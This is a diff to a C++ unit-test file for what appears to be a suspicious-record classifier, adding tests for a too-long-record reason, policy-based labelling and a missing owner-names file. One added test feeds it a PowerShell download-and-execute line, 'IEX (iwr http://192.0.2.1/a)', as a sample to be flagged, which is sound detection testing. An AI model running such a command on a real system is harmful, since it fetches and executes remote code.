@@ -76,8 +76,24 @@ TEST_F(ClassifierTest, ATooLongRecordIsAnErrorOfItsOwn) {
   EXPECT_EQ(results[1].status.code(), absl::StatusCode::kInvalidArgument);
   EXPECT_THAT(std::string(results[1].status.message()),
               HasSubstr("bytes=65536 exceed record_bytes_max=65535"));
+  EXPECT_THAT(results[1].verdict.reasons, ElementsAre(verdict::Reason::kTooLong));
   EXPECT_TRUE(results[2].status.ok());
   EXPECT_EQ(results[2].token_count, 3 * 65'535);
+}
+
+TEST_F(ClassifierTest, LabelsByThePolicyItIsGiven) {
+  options_.judge.policy = verdict::Policy::kTriage;
+  classifier_ = Classifier::Create(model_, clock_, options_).value();
+  EXPECT_EQ(classifier_->judge().policy(), verdict::Policy::kTriage);
+  const auto results = Classify({{"v=spf1 -all", ""}, {"IEX (iwr http://192.0.2.1/a)", ""}});
+  EXPECT_FALSE(results[0].verdict.suspicious);
+  EXPECT_TRUE(results[1].verdict.suspicious);
+}
+
+TEST_F(ClassifierTest, RefusesAListOfOwnerNamesThatIsNotThere) {
+  options_.judge.owner_names_file = "/nonexistent/owner_names";
+  EXPECT_EQ(Classifier::Create(model_, clock_, options_).status().code(),
+            absl::StatusCode::kNotFound);
 }
 
 TEST_F(ClassifierTest, AnswersNoRecordsWithNoResults) { EXPECT_TRUE(Classify({}).empty()); }
